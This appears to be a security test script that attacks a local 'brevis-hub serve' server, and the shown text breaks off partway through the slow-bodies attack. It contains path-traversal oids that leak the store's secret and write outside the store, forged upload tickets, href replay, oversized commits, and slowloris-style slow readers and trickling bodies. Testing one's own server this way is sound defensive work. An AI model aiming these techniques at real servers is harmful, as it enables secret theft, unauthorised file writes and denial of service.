#!/usr/bin/env python3
"""Attack a `brevis-hub serve` binary (path escapes, forged tickets, huge,
slow and trickling bodies, slow readers) and report what each attack got.

    python3 bench/attack-serve.py BIN [--only read-leak,write-outside,...]
                                        [--json out.json] [options]

Every attack starts its own server(s) on 127.0.0.1 with a fresh store in a
temp folder (under /tmp unless --workdir says otherwise; /tmp or /work/attack
only), and kills them and removes the folder at the end (--keep keeps it).
Attacks (each a function; `--only` picks them by name):

  read-leak         commit an LFS pointer whose oid is a path (an absolute
                    path outside the store, `./../secret`) and GET it
                    anonymously: did the body equal the outside file / the
                    store's ticket secret?
  write-outside     with the secret (leaked over HTTP if read-leak works,
                    else read from disk to test the old formula anyway), PUT
                    a multipart part under an oid `/../../../pwned`: did a
                    file appear outside the store? Also forged tickets (old
                    formula) for an arbitrary object, a wrong-secret ticket,
                    and a replayed / reused batch href.
  oversized-commit  1, then K concurrent NDJSON commit bodies of --commit-mb
                    MB with the write token (and one anonymous): statuses,
                    server peak RSS.
  slow-readers      N connections (spread over --sources addresses) each GET
                    a source served decoded from a mirror of the real MiniLM
                    model and read it at --reader-rate B/s: statuses (200 /
                    503 / refused ...), server peak memory and threads.
  slow-bodies       N commit POSTs with Content-Length 1000000 trickling one
                    byte every --trickle-interval s: how many are still open
                    at --trickle-checkpoint s and at the end.
  leftovers         start uploads (half a PUT, a finished part of a multipart
                    upload never completed, half a part), kill -9 the
                    server, restart it on the same store: what stays in tmp/.

Statuses such as 413/408/503/404 and closed connections are outcomes, not
errors. The ticket URL of a valid upload is always taken from the batch
answer (`actions.upload.href` and its `header` part URLs); forged tickets
use the old formula, sha256(secret || oid) hex[:32], in the old URL form.
"""

import argparse
import base64
import ctypes
import hashlib
import http.client
import json
import os
import resource
import select
import selectors
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

ATTACKS = [
    "read-leak",
    "write-outside",
    "oversized-commit",
    "slow-readers",
    "slow-bodies",
    "leftovers",
]

W = "W-attack-write-token"
R = "R-attack-read-token"

SERVERS = []  # every server started, for cleanup


def log(*a):
    print("[attack]", *a, file=sys.stderr, flush=True)


# --------------------------------------------------------------------------
# Server process and its monitor


def _pdeathsig():
    # Kill the server if this script dies (even by SIGKILL).
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG
    except Exception:
        pass


class Server:
    def __init__(self, binary, root, logdir, tokens=True, seeds=(), name="srv"):
        self.binary = binary
        self.root = root
        self.args = [binary, "serve", "--root", root, "--addr", "127.0.0.1:0"]
        if tokens:
            self.args += ["--token", W, "--read-token", R]
        for s in seeds:
            self.args += ["--seed", s]
        self.logdir = logdir
        self.name = name
        self.proc = None
        self.port = None

    def start(self, timeout=120):
        os.makedirs(self.logdir, exist_ok=True)
        self.errf = open(os.path.join(self.logdir, f"{self.name}.stderr"), "ab")
        self.outf = open(os.path.join(self.logdir, f"{self.name}.stdout"), "ab")
        # Only the main thread starts servers (PDEATHSIG follows the thread).
        self.proc = subprocess.Popen(
            self.args,
            stdout=subprocess.PIPE,
            stderr=self.errf,
            stdin=subprocess.DEVNULL,
            preexec_fn=_pdeathsig,
        )
        SERVERS.append(self)
        deadline = time.time() + timeout
        line = b""
        fd = self.proc.stdout
        while not line.endswith(b"\n"):
            left = deadline - time.time()
            if left <= 0 or self.proc.poll() is not None:
                break
            r, _, _ = select.select([fd], [], [], min(left, 0.5))
            if r:
                c = os.read(fd.fileno(), 1)
                if not c:
                    break
                line += c
        text = line.decode(errors="replace").strip()
        if "listening on http://" not in text:
            self.stop()
            raise RuntimeError(f"server did not start: {text!r} (see {self.logdir})")
        self.port = int(text.rsplit(":", 1)[1].strip("/"))
        self.outf.write(line)
        threading.Thread(target=self._drain, daemon=True).start()
        return self

    def _drain(self):
        try:
            while True:
                c = self.proc.stdout.read(4096)
                if not c:
                    break
                self.outf.write(c)
        except Exception:
            pass

    @property
    def pid(self):
        return self.proc.pid

    def alive(self):
        return self.proc is not None and self.proc.poll() is None

    def kill9(self):
        if self.alive():
            self.proc.kill()
        if self.proc:
            self.proc.wait(timeout=10)

    def stop(self):
        if self.proc is None:
            return
        if self.alive():
            self.proc.terminate()
            try:
                self.proc.wait(timeout=8)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=10)
        for f in (getattr(self, "errf", None), getattr(self, "outf", None)):
            try:
                f and f.close()
            except Exception:
                pass
        if self in SERVERS:
            SERVERS.remove(self)

    def status(self):
        out = {}
        try:
            with open(f"/proc/{self.pid}/status") as f:
                for ln in f:
                    k, _, v = ln.partition(":")
                    if k in ("VmRSS", "VmHWM", "Threads"):
                        out[k] = int(v.split()[0])
        except OSError:
            pass
        return out

    def fds(self):
        try:
            return len(os.listdir(f"/proc/{self.pid}/fd"))
        except OSError:
            return None


class Monitor:
    """Samples the server's VmRSS / VmHWM / Threads / open fds."""

    def __init__(self, server, every=0.05):
        self.s = server
        self.every = every
        self.peak_rss = 0
        self.hwm = 0
        self.peak_threads = 0
        self.peak_fds = 0
        self.samples = 0
        self._stop = threading.Event()
        self.t = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        i = 0
        while not self._stop.is_set():
            st = self.s.status()
            if st:
                self.samples += 1
                self.peak_rss = max(self.peak_rss, st.get("VmRSS", 0))
                self.hwm = max(self.hwm, st.get("VmHWM", 0))
                self.peak_threads = max(self.peak_threads, st.get("Threads", 0))
            if i % 10 == 0:
                n = self.s.fds()
                if n:
                    self.peak_fds = max(self.peak_fds, n)
            i += 1
            self._stop.wait(self.every)

    def __enter__(self):
        self.t.start()
        return self

    def __exit__(self, *a):
        self._stop.set()
        self.t.join()

    def result(self):
        return {
            "peak_vmrss_mb": round(self.peak_rss / 1024, 1),
            "vmhwm_mb": round(self.hwm / 1024, 1),
            "peak_threads": self.peak_threads,
            "peak_fds": self.peak_fds,
        }


# --------------------------------------------------------------------------
# HTTP helpers (outcomes, never exceptions)


def auth(token):
    return {"Authorization": f"Bearer {token}"} if token else {}


def request(port, method, path, body=None, token=None, headers=None, timeout=60, source=None):
    """A request through http.client: {"status", "body", "headers"} or {"outcome"}."""
    h = dict(headers or {})
    h.update(auth(token))
    conn = http.client.HTTPConnection(
        "127.0.0.1", port, timeout=timeout, source_address=(source, 0) if source else None
    )
    try:
        conn.request(method, path, body=body, headers=h)
        r = conn.getresponse()
        data = r.read()
        return {"status": r.status, "body": data, "headers": {k.lower(): v for k, v in r.getheaders()}}
    except ConnectionRefusedError:
        return {"status": None, "outcome": "refused"}
    except (ConnectionResetError, BrokenPipeError):
        return {"status": None, "outcome": "reset"}
    except socket.timeout:
        return {"status": None, "outcome": "timeout"}
    except http.client.RemoteDisconnected:
        return {"status": None, "outcome": "closed"}
    except (http.client.HTTPException, OSError) as e:
        return {"status": None, "outcome": f"error: {type(e).__name__}: {e}"}
    finally:
        conn.close()


def read_response(s, timeout, max_body=16 << 20):
    """Read one HTTP response off a raw socket."""
    s.settimeout(timeout)
    buf = b""
    try:
        while b"\r\n\r\n" not in buf:
            c = s.recv(65536)
            if not c:
                return {"status": None, "outcome": "closed" if not buf else "closed-mid-headers"}
            buf += c
        head, _, rest = buf.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        status = int(lines[0].split()[1])
        hdrs = {}
        for ln in lines[1:]:
            k, _, v = ln.partition(":")
            hdrs[k.strip().lower()] = v.strip()
        body = rest
        if "content-length" in hdrs:
            n = min(int(hdrs["content-length"]), max_body)
            while len(body) < n:
                c = s.recv(65536)
                if not c:
                    break
                body += c
        elif hdrs.get("transfer-encoding", "").lower() == "chunked":
            while b"0\r\n\r\n" not in body and len(body) < max_body:
                c = s.recv(65536)
                if not c:
                    break
                body += c
        return {"status": status, "headers": hdrs, "body": body}
    except socket.timeout:
        return {"status": None, "outcome": "timeout"}
    except (ConnectionResetError, BrokenPipeError):
        return {"status": None, "outcome": "reset"}
    except (ValueError, IndexError):
        return {"status": None, "outcome": "bad-response"}
    except OSError as e:
        return {"status": None, "outcome": f"error: {e}"}


def raw_request(port, method, path, body=b"", token=None, headers=None, timeout=300, source=None,
                content_length=None, send_limit=None, chunked=False):
    """Send a request on a raw socket, stop sending when the server answers
    early; returns the response plus how much of the body went out."""
    s = socket.socket()
    s.settimeout(timeout)
    t0 = time.time()
    keep = False
    try:
        if source:
            s.bind((source, 0))
        try:
            s.connect(("127.0.0.1", port))
        except ConnectionRefusedError:
            return {"status": None, "outcome": "refused", "sent": 0}
        except OSError as e:
            return {"status": None, "outcome": f"connect: {e}", "sent": 0}
        h = {"Host": f"127.0.0.1:{port}", "Connection": "close"}
        h.update(headers or {})
        h.update(auth(token))
        if chunked:
            h["Transfer-Encoding"] = "chunked"
        else:
            h["Content-Length"] = str(len(body) if content_length is None else content_length)
        head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in h.items()) + "\r\n"
        try:
            s.sendall(head.encode())
        except OSError:
            return {"status": None, "outcome": "reset-on-headers", "sent": 0}
        mv = memoryview(body)
        limit = len(body) if send_limit is None else min(send_limit, len(body))
        sent = 0
        early = False
        while sent < limit:
            r, _, _ = select.select([s], [], [], 0)
            if r:
                early = True
                break
            try:
                if chunked:
                    piece = mv[sent:min(limit, sent + (1 << 20))]
                    s.sendall(b"%x\r\n" % len(piece) + bytes(piece) + b"\r\n")
                    sent += len(piece)
                    if sent >= limit:
                        s.sendall(b"0\r\n\r\n")
                else:
                    sent += s.send(mv[sent:min(limit, sent + (1 << 20))])
            except (BrokenPipeError, ConnectionResetError):
                early = True
                break
            except socket.timeout:
                early = True
                break
        if send_limit is not None and not early:
            keep = True
            return {"sock": s, "sent": sent}  # the caller goes on with it
        resp = read_response(s, timeout)
        resp["sent"] = sent
        resp["answered_before_body_end"] = early or sent < len(body)
        resp["seconds"] = round(time.time() - t0, 2)
        return resp
    finally:
        if not keep:
            s.close()


def st(r):
    """Short text of an outcome."""
    return str(r["status"]) if r.get("status") is not None else r.get("outcome", "?")


def ndjson(lines):
    return ("".join(json.dumps(x) + "\n" for x in lines)).encode()


def commit_lines(port, repo, lines, token=W, timeout=120):
    return request(
        port, "POST", f"/api/models/{repo}/commit/main", body=ndjson(lines), token=token,
        headers={"Content-Type": "application/x-ndjson"}, timeout=timeout,
    )


def create_repo(port, org, name, private=False, token=W):
    return request(
        port, "POST", "/api/repos/create",
        body=json.dumps({"name": name, "organization": org, "private": private, "type": "model"}),
        token=token, headers={"Content-Type": "application/json"},
    )


def batch(port, repo, objects, token=W):
    r = request(
        port, "POST", f"/{repo}.git/info/lfs/objects/batch",
        body=json.dumps({"operation": "upload", "transfers": ["basic", "multipart"],
                         "objects": objects, "hash_algo": "sha256"}),
        token=token,
        headers={"Content-Type": "application/vnd.git-lfs+json", "Accept": "application/vnd.git-lfs+json"},
    )
    try:
        r["json"] = json.loads(r.get("body") or b"null")
    except ValueError:
        r["json"] = None
    return r


def href_path(url):
    u = urllib.parse.urlsplit(url)
    return u.path + (f"?{u.query}" if u.query else "")


def upload_actions(bresp, oid):
    """The upload action of `oid` in a batch answer, or None."""
    for o in (bresp.get("json") or {}).get("objects", []) or []:
        if o.get("oid") == oid:
            return (o.get("actions") or {}).get("upload")
    return None


def old_ticket(secret, oid):
    return hashlib.sha256(secret + oid.encode()).hexdigest()[:32]


def listing(d):
    out = []
    if not os.path.isdir(d):
        return out
    for dp, dns, fns in os.walk(d):
        for n in sorted(dns):
            out.append(os.path.relpath(os.path.join(dp, n), d) + "/")
        for n in sorted(fns):
            p = os.path.join(dp, n)
            try:
                sz = os.path.getsize(p)
            except OSError:
                sz = None
            out.append(f"{os.path.relpath(p, d)} ({sz} B)")
    return sorted(out)


def snapshot_outside(base, store):
    """Files under `base` but not under `store` (nor our logs)."""
    out = set()
    for dp, dns, fns in os.walk(base):
        if os.path.abspath(dp).startswith(os.path.abspath(store)):
            dns[:] = []
            continue
        for n in fns:
            p = os.path.join(dp, n)
            if n.endswith((".stderr", ".stdout")):
                continue
            out.add(p)
    return out


# --------------------------------------------------------------------------
# Results table

ROWS = []


def row(attack, mode, case, status, outside, detail=""):
    ROWS.append({"attack": attack, "mode": mode, "case": case, "status": status,
                 "outside": outside, "detail": detail})


def print_table(rows, out=sys.stdout):
    cols = ["attack", "mode", "case", "status", "outside", "detail"]
    w = {c: max(len(c), *(len(str(r[c])) for r in rows)) if rows else len(c) for c in cols}
    w["detail"] = len("detail")
    line = "  ".join(c.upper().ljust(w[c]) for c in cols)
    print(line, file=out)
    print("-" * max(len(line), 100), file=out)
    for r in rows:
        print("  ".join(str(r[c]).ljust(w[c]) for c in cols), file=out)


# --------------------------------------------------------------------------
# Attacks


class Ctx:
    def __init__(self, args, base):
        self.args = args
        self.base = base
        self.bin = args.binary

    def dir(self, name):
        d = os.path.join(self.base, name)
        os.makedirs(d, exist_ok=True)
        return d


def leak(port, repo, path, oid, store, token=W):
    """Commit an lfsFile whose oid is `oid`, then GET it anonymously and
    with the read token."""
    c = commit_lines(port, repo, [
        {"key": "header", "value": {"summary": "x"}},
        {"key": "lfsFile", "value": {"path": path, "oid": oid}},
    ], token=token)
    g = request(port, "GET", f"/{repo}/resolve/main/{path}")
    gr = request(port, "GET", f"/{repo}/resolve/main/{path}", token=R)
    return c, g, gr


def attack_read_leak(ctx, mode):
    d = ctx.dir(f"read-leak-{mode}")
    store = os.path.join(d, "store")
    outside = os.path.join(d, "outside-secret.txt")
    content = f"outside-secret {os.urandom(16).hex()}\n".encode()
    with open(outside, "wb") as f:
        f.write(content)
    res = {"mode": mode, "outside_file": outside, "cases": {}}
    if outside != outside.lower():
        res["warning"] = "the outside path has capitals: the old server lowercases oids"
    tok = W if mode == "tokens" else None
    seeds = [f"org/seed={ctx.args.small_seed}"] if ctx.args.small_seed else []
    srv = Server(ctx.bin, store, d, tokens=(mode == "tokens"), seeds=seeds, name="serve").start()
    try:
        cr = create_repo(srv.port, "org", "pub", token=tok)
        res["create_repo"] = st(cr)
        if seeds:
            ctl = request(srv.port, "GET", "/org/seed/resolve/main/config.json")
            res["control_download"] = st(ctl)
            row("read-leak", mode, "control: GET seeded config.json", st(ctl), "-", "server serves normal files")
        secret = open(os.path.join(store, "secret"), "rb").read()
        for case, oid, want in [
            ("oid=<abs path outside store>", outside, content),
            ("oid=./../secret", "./../secret", secret),
        ]:
            path = "leak-abs.bin" if want is content else "leak-secret.bin"
            c, g, gr = leak(srv.port, "org/pub", path, oid, store, token=tok)
            got = g.get("body") if g.get("status") == 200 else None
            gotr = gr.get("body") if gr.get("status") == 200 else None
            leaked = got == want or gotr == want
            res["cases"][case] = {
                "commit": st(c), "commit_body": (c.get("body") or b"")[:300].decode(errors="replace"),
                "get_anon": st(g), "get_read_token": st(gr),
                "anon_body_equals_target": got == want, "read_token_body_equals_target": gotr == want,
            }
            what = "outside file" if want is content else "store secret"
            row("read-leak", mode, case,
                f"commit {st(c)} / GET anon {st(g)} / GET R {st(gr)}",
                f"READ {what}" if leaked else "no",
                "" if leaked else (c.get("body") or b"")[:80].decode(errors="replace").replace("\n", " "))
        res["server_alive"] = srv.alive()
    finally:
        srv.stop()
    return res


def attack_write_outside(ctx, mode):
    d = ctx.dir(f"write-outside-{mode}")
    store = os.path.join(d, "store")
    tok = W if mode == "tokens" else None
    res = {"mode": mode, "cases": {}}
    srv = Server(ctx.bin, store, d, tokens=(mode == "tokens"), name="serve").start()
    try:
        create_repo(srv.port, "org", "pub", token=tok)
        before = snapshot_outside(d, store)
        disk_secret = open(os.path.join(store, "secret"), "rb").read()
        # (1) again: the secret over HTTP.
        c, g, _ = leak(srv.port, "org/pub", "leak-secret.bin", "./../secret", store, token=tok)
        if g.get("status") == 200 and g.get("body") == disk_secret:
            secret, via = g["body"], "leaked over HTTP (read-leak)"
        else:
            secret, via = disk_secret, f"read from disk (the HTTP leak got commit {st(c)}, GET {st(g)})"
        res["secret_via"] = via

        # Path traversal in the part directory: tmp/parts-{oid}/{n:08}.
        oid = "/../../../pwned"
        target = os.path.normpath(os.path.join(store, "tmp", f"parts-{oid}", "00000001"))
        res["designed_target"] = target
        if not target.startswith(os.path.abspath(d) + os.sep):
            raise RuntimeError(f"designed target {target} would escape {d}")
        payload = f"PWNED {os.urandom(8).hex()}\n".encode()
        t = old_ticket(secret, oid)
        p = f"/lfs-upload/{urllib.parse.quote(oid, safe='')}/{t}/part/1"
        r = request(srv.port, "PUT", p, body=payload)
        wrote = os.path.exists(target) and open(target, "rb").read() == payload
        after = snapshot_outside(d, store)
        new = sorted(after - before)
        res["cases"]["traversal part PUT"] = {
            "url": p, "status": st(r), "target_written": wrote, "new_files_outside_store": new,
        }
        row("write-outside", mode, "anon PUT /lfs-upload/%2F..%2F..%2F..%2Fpwned/T/part/1", st(r),
            f"WROTE {os.path.relpath(target, d)}" if wrote else ("new: " + ",".join(new) if new else "no"),
            f"secret {via.split(' (')[0]}")
        # Delete the designed target (and anything else that appeared).
        shutil.rmtree(os.path.dirname(target), ignore_errors=True)
        for f in new:
            try:
                os.remove(f)
            except OSError:
                pass

        # Forged ticket (old formula, leaked secret) for an object nobody
        # asked the batch endpoint about.
        data = os.urandom(1000)
        foid = hashlib.sha256(data).hexdigest()
        objp = os.path.join(store, "objects", foid[:2], foid)
        fr = request(srv.port, "PUT", f"/lfs-upload/{foid}/{old_ticket(secret, foid)}?size={len(data)}", body=data)
        planted = os.path.exists(objp)
        res["cases"]["forged ticket (old formula)"] = {"status": st(fr), "object_planted": planted}
        row("write-outside", mode, "anon PUT forged ticket sha256(secret||oid), random object", st(fr),
            "no (in store: object planted)" if planted else "no", "")
        # Same with a wrong secret.
        data2 = os.urandom(1000)
        oid2 = hashlib.sha256(data2).hexdigest()
        wr = request(srv.port, "PUT", f"/lfs-upload/{oid2}/{old_ticket(b'0' * 64, oid2)}?size={len(data2)}", body=data2)
        res["cases"]["wrong-secret ticket"] = {"status": st(wr),
                                               "object_planted": os.path.exists(os.path.join(store, "objects", oid2[:2], oid2))}
        row("write-outside", mode, "anon PUT ticket made with a wrong secret", st(wr), "no", "")

        # Replay of a batch href: same content again, then other content.
        data3 = os.urandom(1000)
        oid3 = hashlib.sha256(data3).hexdigest()
        b = batch(srv.port, "org/pub", [{"oid": oid3, "size": len(data3)}], token=tok)
        up = upload_actions(b, oid3)
        if up and up.get("href"):
            hp = href_path(up["href"])
            r1 = request(srv.port, "PUT", hp, body=data3)
            r2 = request(srv.port, "PUT", hp, body=data3)
            r3 = request(srv.port, "PUT", hp, body=os.urandom(1000))
            res["cases"]["batch href"] = {"href": hp, "first": st(r1), "replay_same": st(r2), "other_content": st(r3)}
            row("write-outside", mode, "batch href: PUT / replay same / other content",
                f"{st(r1)} / {st(r2)} / {st(r3)}", "no", hp[:60])
        else:
            res["cases"]["batch href"] = {"batch": st(b), "note": "no upload href in the batch answer"}
            row("write-outside", mode, "batch href", f"batch {st(b)}", "no", "no upload href")
        final_new = sorted(snapshot_outside(d, store) - before)
        res["files_outside_store_left"] = final_new
        res["server_alive"] = srv.alive()
    finally:
        srv.stop()
    return res


def commit_body_many(mb, i):
    """An NDJSON commit of about `mb` MB made of regular-file lines of 8 MB
    each (each one within a server's per-file limit)."""
    pre = json.dumps({"key": "header", "value": {"summary": "big"}}).encode() + b"\n"
    lines = [pre]
    total = len(pre)
    k = 0
    while total < (mb << 20):
        content = base64.b64encode(bytes([k % 251]) * (6 << 20) + b"%d-%d" % (i, k))
        line = b'{"key":"file","value":{"path":"big-%d-%d.txt","encoding":"base64","content":"' % (i, k) \
            + content + b'"}}\n'
        lines.append(line)
        total += len(line)
        k += 1
    return b"".join(lines)


def commit_body(mb, i):
    """An NDJSON commit of about `mb` MB: a header and one regular file line
    whose base64 content fills the rest."""
    total = mb << 20
    pre = json.dumps({"key": "header", "value": {"summary": "big"}}).encode() + b"\n" + \
        b'{"key":"file","value":{"path":"big-%d.txt","encoding":"base64","content":"' % i
    post = b'"}}\n'
    n = max(4, (total - len(pre) - len(post)) // 4 * 4)
    return pre + b"A" * n + post


def attack_oversized_commit(ctx):
    d = ctx.dir("oversized-commit")
    store = os.path.join(d, "store")
    mb = ctx.args.commit_mb
    res = {"commit_mb": mb, "phases": {}}
    chunked = ctx.args.commit_chunked
    log(f"oversized-commit: building a {mb} MB body" + (" (8 MB files, chunked)" if chunked else ""))
    body = commit_body_many(mb, 0) if chunked else commit_body(mb, 0)
    phases = [("anon", 1, None)] + [(f"x{k}", k, W) for k in ctx.args.commit_concurrency]
    for name, k, tok in phases:
        srv = Server(ctx.bin, store, d, tokens=True, name=f"serve-{name}").start()
        try:
            if not os.path.exists(os.path.join(store, "models", "org", "big", "repo.json")):
                create_repo(srv.port, "org", "big")
            out = [None] * k
            with Monitor(srv) as mon:
                t0 = time.time()
                ths = []
                for i in range(k):
                    def go(i=i):
                        out[i] = raw_request(srv.port, "POST", "/api/models/org/big/commit/main", body=body,
                                             token=tok, headers={"Content-Type": "application/x-ndjson"},
                                             timeout=ctx.args.commit_timeout, chunked=chunked)
                    th = threading.Thread(target=go)
                    th.start()
                    ths.append(th)
                for th in ths:
                    th.join()
                secs = time.time() - t0
                time.sleep(0.3)
            statuses = [st(o) for o in out]
            r = {"requests": k, "token": "write" if tok else "anonymous", "statuses": statuses,
                 "sent_mb": [round(o.get("sent", 0) / 2**20, 1) for o in out],
                 "answered_before_body_end": [bool(o.get("answered_before_body_end")) for o in out],
                 "seconds": round(secs, 1), "server_alive": srv.alive(), **mon.result()}
            res["phases"][name] = r
            row("oversized-commit", "tokens",
                f"{k} x {mb} MB commit ({r['token']}{', chunked 8 MB files' if chunked else ''})", ",".join(statuses), "no",
                f"peak RSS {r['peak_vmrss_mb']} MB, HWM {r['vmhwm_mb']} MB, sent {r['sent_mb']} MB, "
                f"{r['seconds']} s{'' if r['server_alive'] else ', SERVER DIED'}")
        finally:
            srv.stop()
    return res


def prepare_mirror(ctx):
    """A store where org/minilm is served decoded from local/minilm-brevis."""
    d = ctx.dir("mirror")
    store = os.path.join(d, "store")
    hf = os.path.join(d, "hf")
    os.makedirs(hf, exist_ok=True)
    srv = Server(ctx.bin, store, d, tokens=True, seeds=[f"org/minilm={ctx.args.model_dir}"], name="serve-seed")
    srv.start(timeout=300)
    try:
        env = dict(os.environ, HF_HOME=hf, BREVIS_WORK_DIR=os.path.join(d, "work"))
        env.pop("HF_ENDPOINT", None)
        env.pop("HF_TOKEN", None)
        t0 = time.time()
        p = subprocess.run(
            [ctx.bin, "mirror", "org/minilm", "--endpoint", f"http://127.0.0.1:{srv.port}", "--token", W, "--json"],
            env=env, capture_output=True, timeout=900,
        )
        with open(os.path.join(d, "mirror.stderr"), "wb") as f:
            f.write(p.stderr)
        if p.returncode != 0:
            raise RuntimeError(f"mirror failed ({p.returncode}): {p.stderr[-500:].decode(errors='replace')}")
        m = json.loads(p.stdout)
        log(f"mirror: {m.get('dest_repo')} in {time.time() - t0:.1f} s")
    finally:
        srv.stop()
    # The source must not be stored itself to be served decoded: remove it,
    # and the objects of its files that the mirror holds encoded.
    shutil.rmtree(os.path.join(store, "models", "org", "minilm"), ignore_errors=True)
    for f in m.get("files", []):
        if f.get("encoding") != "identity":
            p = os.path.join(store, "objects", f["sha256"][:2], f["sha256"])
            if os.path.exists(p):
                os.remove(p)
    big = max((f for f in m["files"] if f.get("encoding") != "identity"), key=lambda f: f["size"])
    return d, store, m, big


def slow_reader(port, path, source, rate, secs, hdr_timeout, out):
    r = {"source": source, "status": None, "bytes": 0, "cut_early": False}
    s = socket.socket()
    try:
        s.bind((source, 0))
        s.settimeout(10)
        try:
            s.connect(("127.0.0.1", port))
        except ConnectionRefusedError:
            r["outcome"] = "refused"
            return
        except OSError as e:
            r["outcome"] = f"connect: {e}"
            return
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode())
        s.settimeout(hdr_timeout)
        buf = b""
        t0 = time.time()
        while b"\r\n\r\n" not in buf:
            c = s.recv(4096)
            if not c:
                r["outcome"] = "closed" if not buf else "closed-mid-headers"
                return
            buf += c
        r["header_wait_s"] = round(time.time() - t0, 2)
        try:
            r["status"] = int(buf.split(b" ", 2)[1])
        except (ValueError, IndexError):
            r["outcome"] = "bad-response"
            return
        r["retry_after"] = None
        for ln in buf.split(b"\r\n"):
            if ln.lower().startswith(b"retry-after:"):
                r["retry_after"] = ln.split(b":", 1)[1].strip().decode()
        if r["status"] != 200:
            return
        r["bytes"] = len(buf.partition(b"\r\n\r\n")[2])
        s.settimeout(30)
        chunk = max(1, int(rate / 10))
        end = time.time() + secs
        while time.time() < end:
            c = s.recv(chunk)
            if not c:
                r["cut_early"] = True
                break
            r["bytes"] += len(c)
            time.sleep(0.1)
    except socket.timeout:
        r["outcome"] = r.get("outcome") or ("timeout" if r["status"] is None else "read-timeout")
    except (ConnectionResetError, BrokenPipeError):
        r["outcome"] = "reset"
        r["cut_early"] = r["status"] == 200
    except OSError as e:
        r["outcome"] = f"error: {e}"
    finally:
        s.close()
        out.append(r)


def attack_slow_readers(ctx):
    a = ctx.args
    d, store, m, big = prepare_mirror(ctx)
    src = "org/minilm"
    path = f"/{src}/resolve/main/{big['path']}"
    res = {"file": path, "size": big["size"], "mirror": m.get("dest_repo"), "rate_Bps": a.reader_rate,
           "read_seconds": a.reader_secs, "sources": a.sources, "runs": {}}
    for n in a.slow_readers:
        srv = Server(ctx.bin, store, d, tokens=True, name=f"serve-n{n}").start()
        try:
            info = request(srv.port, "GET", f"/api/models/{src}")
            res.setdefault("decoded_check", {"api_status": st(info),
                                             "x-brevis-decoded-from": (info.get("headers") or {}).get("x-brevis-decoded-from")})
            base_st = srv.status()
            out = []
            probe = {}
            with Monitor(srv) as mon:
                ths = []
                for i in range(n):
                    th = threading.Thread(target=slow_reader, daemon=True, args=(
                        srv.port, path, a.sources[i % len(a.sources)], a.reader_rate, a.reader_secs,
                        a.reader_secs + 20, out))
                    th.start()
                    ths.append(th)
                # Mid-attack: can anyone else still get a small answer?
                time.sleep(min(5, a.reader_secs / 2))
                t0 = time.time()
                pr = request(srv.port, "GET", f"/api/models/{m.get('dest_repo')}", timeout=30)
                probe = {"status": st(pr), "seconds": round(time.time() - t0, 3)}
                for th in ths:
                    th.join(a.reader_secs + 60)
                live = srv.status()
            counts = {}
            for r in out:
                k = str(r["status"]) if r["status"] is not None else r.get("outcome", "?")
                counts[k] = counts.get(k, 0) + 1
            got200 = [r for r in out if r["status"] == 200]
            run = {
                "n": n, "outcomes": counts, "finished": len(out),
                "cut_early_200": sum(1 for r in got200 if r["cut_early"]),
                "mean_bytes_200": int(sum(r["bytes"] for r in got200) / len(got200)) if got200 else 0,
                "max_header_wait_s": max((r.get("header_wait_s", 0) for r in out), default=0),
                "retry_after": sorted({r["retry_after"] for r in out if r.get("retry_after")}),
                "baseline_vmrss_mb": round(base_st.get("VmRSS", 0) / 1024, 1),
                "threads_after": live.get("Threads"),
                "small_request_during": probe, "server_alive": srv.alive(), **mon.result(),
            }
            res["runs"][str(n)] = run
            row("slow-readers", "tokens", f"{n} anon slow GETs of decoded {big['path']}",
                " ".join(f"{k}:{v}" for k, v in sorted(counts.items())), "no",
                f"peak RSS {run['peak_vmrss_mb']} MB (base {run['baseline_vmrss_mb']}), HWM {run['vmhwm_mb']} MB, "
                f"threads {run['peak_threads']}, fds {run['peak_fds']}, probe {probe.get('status')} in "
                f"{probe.get('seconds')} s{'' if run['server_alive'] else ', SERVER DIED'}")
        finally:
            srv.stop()
    return res


def attack_slow_bodies(ctx):
    a = ctx.args
    d = ctx.dir("slow-bodies")
    store = os.path.join(d, "store")
    res = {"runs": {}}
    for n in a.trickle:
        srv = Server(ctx.bin, store, d, tokens=True, name=f"serve-{n}").start()
        try:
            if not os.path.exists(os.path.join(store, "models", "org", "slow", "repo.json")):
                create_repo(srv.port, "org", "slow")
            sel = selectors.DefaultSelector()
            conns = {}
            refused = 0
            other = {}
            head = (f"POST /api/models/org/slow/commit/main HTTP/1.1\r\nHost: 127.0.0.1:{srv.port}\r\n"
                    f"Authorization: Bearer {W}\r\nContent-Type: application/x-ndjson\r\n"
                    f"Content-Length: 1000000\r\n\r\n").encode()
            with Monitor(srv, every=0.2) as mon:
                t0 = time.time()
                for i in range(n):
                    s = socket.socket()
                    try:
                        if a.trickle_spread:
                            s.bind((a.sources[i % len(a.sources)], 0))
                        s.settimeout(5)
                        s.connect(("127.0.0.1", srv.port))
                        s.sendall(head)
                        s.setblocking(False)
                    except ConnectionRefusedError:
                        refused += 1
                        s.close()
                        continue
                    except OSError as e:
                        k = f"connect: {type(e).__name__}"
                        other[k] = other.get(k, 0) + 1
                        s.close()
                        continue
                    conns[s] = {"open": True, "closed_at": None, "status": None, "how": None}
                    sel.register(s, selectors.EVENT_READ)
                connect_s = time.time() - t0
                checkpoints = {}
                cps = sorted(set([a.trickle_checkpoint, a.trickle_secs] + list(range(10, int(a.trickle_secs), 10))))
                cps = [float(c) for c in cps]
                next_send = time.time()
                end = t0 + a.trickle_secs
                while time.time() < end:
                    now = time.time()
                    for cp in cps:
                        if f"{cp:g}" not in checkpoints and now - t0 >= cp:
                            checkpoints[f"{cp:g}"] = sum(1 for c in conns.values() if c["open"])
                    if now >= next_send:
                        for s, c in conns.items():
                            if not c["open"]:
                                continue
                            try:
                                s.send(b" ")
                            except (BlockingIOError, InterruptedError):
                                pass
                            except OSError:
                                c.update(open=False, closed_at=round(time.time() - t0, 1), how="send-failed")
                        next_send = now + a.trickle_interval
                    for key, _ in sel.select(timeout=0.2):
                        s = key.fileobj
                        c = conns[s]
                        try:
                            data = s.recv(4096)
                        except (BlockingIOError, InterruptedError):
                            continue
